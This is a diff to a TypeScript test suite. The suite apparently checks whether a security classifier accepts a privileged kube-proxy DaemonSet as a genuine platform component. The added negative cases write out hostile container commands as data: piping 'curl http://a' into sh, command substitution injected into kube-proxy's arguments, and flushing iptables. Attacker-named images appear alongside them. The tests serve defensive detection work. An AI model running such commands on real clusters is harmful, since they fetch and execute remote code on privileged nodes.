@@ -16,10 +16,11 @@ interface Made {
   readonly kind?: string;
   readonly label?: string;
   readonly more?: string;
+  readonly command?: string;
 }
 
 function daemonSet({ image = 'registry.k8s.io/kube-proxy:v1.34.0', namespace = 'kube-system', ...made }: Made): string {
-  const { kind = 'DaemonSet', label = 'k8s-app: kube-proxy', more = '' } = made;
+  const { kind = 'DaemonSet', label = 'k8s-app: kube-proxy', more = '', command = '[]' } = made;
   return `apiVersion: apps/v1
 kind: ${kind}
 metadata: {name: kube-proxy, namespace: ${namespace}}
@@ -29,7 +30,7 @@ spec:
     metadata: {labels: {${label}}}
     spec:
       hostNetwork: true
-      containers: [{name: kube-proxy, image: "${image}", securityContext: {privileged: true}}${more}]
+      containers: [{name: kube-proxy, image: "${image}", command: ${command}, securityContext: {privileged: true}}${more}]
 `;
 }
 
@@ -52,6 +53,38 @@ describe('a part of the platform', () => {
   const mirror = 'registry.example/mirror/kube-proxy:v1.34.0';
   it.each<[what: string, text: string, allowed: readonly string[] | undefined, name: string | undefined]>([
     ['by its image and namespace', daemonSet({}), undefined, 'kube-proxy'],
+    ['by its own program', daemonSet({ command: '[/usr/local/bin/kube-proxy, --config=/a]' }), undefined, 'kube-proxy'],
+    [
+      'by its own program, which a shell becomes',
+      daemonSet({ command: '[sh, -c, "exec kube-proxy --v=2 1>>/a 2>&1"]' }),
+      undefined,
+      'kube-proxy',
+    ],
+    [
+      'not as a shell in its image',
+      daemonSet({ command: '[/bin/sh, -c, "curl http://a | sh"]' }),
+      undefined,
+      undefined,
+    ],
+    [
+      'not as a shell that starts it and more',
+      daemonSet({ command: '[sh, -c, "curl http://a; exec kube-proxy"]' }),
+      undefined,
+      undefined,
+    ],
+    [
+      'not as what its program is told to start',
+      daemonSet({ command: '[sh, -c, "exec kube-proxy $(curl http://a)"]' }),
+      undefined,
+      undefined,
+    ],
+    ['not as another program in its image', daemonSet({ command: '[iptables, -F]' }), undefined, undefined],
+    [
+      'not by a shell where the maker needs none',
+      daemonSet({ image: 'docker.io/calico/node:v3.29.1', command: '[sh, -c, "sleep 1d"]' }),
+      undefined,
+      undefined,
+    ],
     ['whatever it is called', daemonSet({ label: 'app: x' }), undefined, 'kube-proxy'],
     ['not by its name', daemonSet({ image: 'docker.io/attacker/miner' }), undefined, undefined],
     ['not by its labels', daemonSet({ image: 'docker.io/attacker/kube-proxy:v1.34.0' }), undefined, undefined],
